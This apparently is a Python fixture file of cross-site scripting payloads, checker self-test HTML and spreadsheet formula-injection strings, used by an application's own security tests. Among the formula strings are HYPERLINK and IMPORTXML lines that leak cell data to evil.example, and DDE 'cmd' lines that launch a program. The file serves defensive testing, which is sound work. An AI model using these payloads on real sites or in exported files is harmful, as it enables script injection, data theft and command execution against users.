"""Cross-site scripting payloads, pushed through every field the app renders (see test_xss.py).

Each is a string a user could type into notes, a comment, a source field or a name. Markdown forms matter
because notes are Markdown: a link or image whose URL is javascript:, vbscript: or data:.
"""

PAYLOADS = [
    "<script>alert(1)</script>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1) /><a><text>x</text></a></svg>",
    "[click](javascript:alert(1))",
    "[click](JaVaScRiPt:alert(1))",
    "[click](<javascript:alert(1)>)",
    "[click](java&#x09;script:alert(1))",
    "[click](&#106;avascript:alert(1))",
    "[click](\x01javascript:alert(1))",
    "![pic](javascript:alert(1))",
    "[click](vbscript:msgbox(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "<javascript:alert(1)>",
    '[click](https://example.org "t\\" onmouseover=\\"alert(1)")',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="&#x6A;avascript:alert(1)">x</a>',
    '<a href="jav&#x0A;ascript:alert(1)">x</a>',
    '"><script>alert(1)</script>',
    "'><img src=x onerror=alert(1)>",
    '" onfocus="alert(1)" autofocus="',
    "' onmouseover='alert(1)",
    "</textarea><script>alert(1)</script>",
    "</title><script>alert(1)</script>",
    '<iframe src="javascript:alert(1)"></iframe>',
    '<object data="javascript:alert(1)"></object>',
    '<embed src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
    '<base href="javascript:alert(1)//">',
    '<form action="javascript:alert(1)"><button>go</button></form>',
    "<details open ontoggle=alert(1)>",
    "<body onload=alert(1)>",
    "<input autofocus onfocus=alert(1)>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    '<!--<img src="--><img src=x onerror=alert(1)//">',
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<<script>alert(1)//<</script>",
    "\u202e<script>alert(1)</script>",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    '<p style="background:url(javascript:alert(1))">x</p>',
    "<style>@import 'javascript:alert(1)';</style>",
    "[@x<script>alert(1)</script>, p. <img src=x onerror=alert(1)>]",
    "^[note <svg onload=alert(1)>]",
    "{{ request.user.password }}{% debug %}",
]

# Raw HTML that the checker must flag (its self-test: a checker that sees nothing proves nothing).
KNOWN_ACTIVE = [
    "<script>alert(1)</script>",
    '<p><img src="x" onerror="alert(1)"></p>',
    "<svg onload=alert(1)></svg>",
    '<a href="javascript:alert(1)">x</a>',
    '<a href=" JaVa&#x09;ScRiPt:alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
    '<iframe src="https://example.org"></iframe>',
    '<object data="x.swf"></object>',
    '<meta http-equiv="refresh" content="0;url=https://example.org">',
    '<base href="https://evil.example/">',
    '<form><button formaction="javascript:alert(1)">x</button></form>',
    '<svg><animate attributeName="href" values="javascript:alert(1)"></animate></svg>',
    '<p style="width: expression(alert(1))">x</p>',
    '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>',
    '<details open ontoggle="alert(1)"></details>',
]

# Spreadsheet formula injection: text that a spreadsheet would run as a formula when a CSV or XLSX export is opened.
# They only work at the very start of a cell, so they go into fields as they are (no marker in front).
FORMULAS = [
    '=HYPERLINK("https://evil.example/?leak="&A1,"Click")',
    "=cmd|' /C calc'!A0",
    "+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "'=1+1",
    '=IMPORTXML(CONCAT("https://evil.example/?v=",A2),"//a")',
]
